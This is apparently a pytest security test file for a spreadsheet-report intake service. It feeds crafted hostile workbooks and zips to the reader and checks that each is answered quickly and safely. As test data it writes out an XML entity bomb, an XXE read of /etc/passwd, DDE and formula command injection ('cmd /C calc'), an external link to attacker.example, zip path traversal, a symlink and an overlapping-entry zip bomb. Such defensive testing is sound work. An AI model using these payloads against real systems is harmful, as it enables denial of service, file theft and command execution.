"""Files made to do harm are answered, in a moment, and do none; tests/intake has the many that are
only broken.
"""

import io
import re
import stat
import time
import zipfile

import pytest
from filled_forms import report
from small_board import MAY, stays

from partyboard.intake.bundle import unpack
from partyboard.intake.findings import Finding
from partyboard.intake.worker import Reader
from partyboard.reception import check_alone
from partyboard.reception.incoming import Incoming, arrive

GOOD = report("STC", MAY, name="Đảng bộ Sở Tài chính", members=stays(50))
SHEET = "xl/worksheets/sheet2.xml"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]>'
SPY = '<!DOCTYPE w [<!ENTITY spy SYSTEM "file:///etc/passwd">]>'
PATIENT = 30  # seconds on a busy machine; a file that asks for all it may gets 8
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture(scope="module")
def reader():
    with Reader() as reading:
        yield reading


def changed(change, also: dict[str, bytes] | None = None, where: str = SHEET) -> bytes:
    """The good workbook with one part changed and others put beside it."""
    saved = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(GOOD)) as old,
        zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            text = old.read(name)
            new.writestr(name, change(text) if name == where else text)
        for name, content in (also or {}).items():
            new.writestr(name, content)
    return saved.getvalue()


def with_declaration(declaration: str, entity: str):
    def change(xml: bytes) -> bytes:
        cell = f'<row r="900"><c r="A900" t="inlineStr"><is><t>&{entity};</t></is></c></row>'
        return declaration.encode() + xml.replace(b"</sheetData>", cell.encode() + b"</sheetData>")

    return change


def with_cell(cell: str):
    def change(xml: bytes) -> bytes:
        row = int(re.findall(r"[0-9]+", cell)[0])
        return xml.replace(b"</sheetData>", f'<row r="{row}">{cell}</row></sheetData>'.encode())

    return change


HARMFUL = {
    "entities that grow": (with_declaration(BOMB, "l9"), None),
    "entity that is a file": (with_declaration(SPY, "spy"), None),
    "sheet of 300 MB": (lambda xml: xml + b" " * 300_000_000, None),
    "cell at the far end": (
        with_cell('<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'),
        None,
    ),
    "parts without number": (lambda xml: xml, {f"x/{n}": b"" for n in range(5_001)}),
    "macros": (lambda xml: xml, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}),
    "link to another workbook": (
        lambda xml: xml,
        {
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink '
            b'ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                f'<Relationships><Relationship Id="rId1" Type="{RELATIONS}/externalLinkPath" '
                'Target="http://attacker.example/a.xlsx" TargetMode="External"/></Relationships>'
            ).encode(),
        },
    ),
    "command in a formula": (
        with_cell("""<c r="A900"><f>cmd|'/C calc'!A0</f><v>0</v></c>"""),
        None,
    ),
    "path in the names of its parts": (
        lambda xml: xml,
        {"../../../etc/cron.d/x": b"x", "C:\\Windows\\x": b"x"},
    ),
}


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_workbook_is_answered_in_a_moment(reader, name):
    change, also = HARMFUL[name]
    since = time.monotonic()
    (answer,) = reader.read_many([changed(change, also)])
    assert time.monotonic() - since < PATIENT
    assert "root:" not in repr(answer)
    if name.startswith(("entit", "sheet", "cell", "parts")):
        assert isinstance(answer, Finding) and answer.code in ("too-large", "corrupt"), answer
    (good,) = reader.read_many([GOOD])
    assert not isinstance(good, Finding), "who comes next is served"


def test_workbook_with_macros_says_the_same_as_without():
    with_macros = changed(*HARMFUL["macros"])
    receipts = [check_alone([Incoming("a.xlsm", content)]) for content in (GOOD, with_macros)]
    said = [[(each.report.organization, each.report.sheets) for each in some] for some in receipts]
    assert said[0] == said[1] and said[0][0][0] == "STC"


def packed(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return saved.getvalue()


def test_link_in_a_zip_is_not_followed():
    link = zipfile.ZipInfo("bao cao.xlsx")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    arrival = arrive("goi.zip", packed((link, b"/etc/passwd"), ("STC.xlsx", GOOD)))
    contents = {each.filename: each.content for each in arrival.files}
    assert contents["STC.xlsx"] == GOOD
    assert contents.get("bao cao.xlsx", b"/etc/passwd") == b"/etc/passwd"  # as a text, if at all


def test_zip_whose_entries_are_one_entry_many_times_is_stopped():
    """Each name points at the same packed bytes: what is unpacked is limited, not what is said."""
    inside = packed(("a.xlsx", b"\0" * 20_000_000))
    start = inside.index(b"PK\x01\x02")
    end = inside.index(b"PK\x05\x06")
    entry = inside[start:end]
    entries = b"".join(entry[:46] + f"{n:06}"[:6].encode() + entry[52:] for n in range(2500))
    tail = bytearray(inside[end:])
    tail[8:10] = tail[10:12] = (2500).to_bytes(2, "little")
    tail[12:16] = len(entries).to_bytes(4, "little")
    since = time.monotonic()
    bundle = unpack("goi.zip", inside[:start] + entries + bytes(tail))
    assert time.monotonic() - since < PATIENT
    assert sum(len(content) for _, content in bundle.files) <= 500 * 2**20
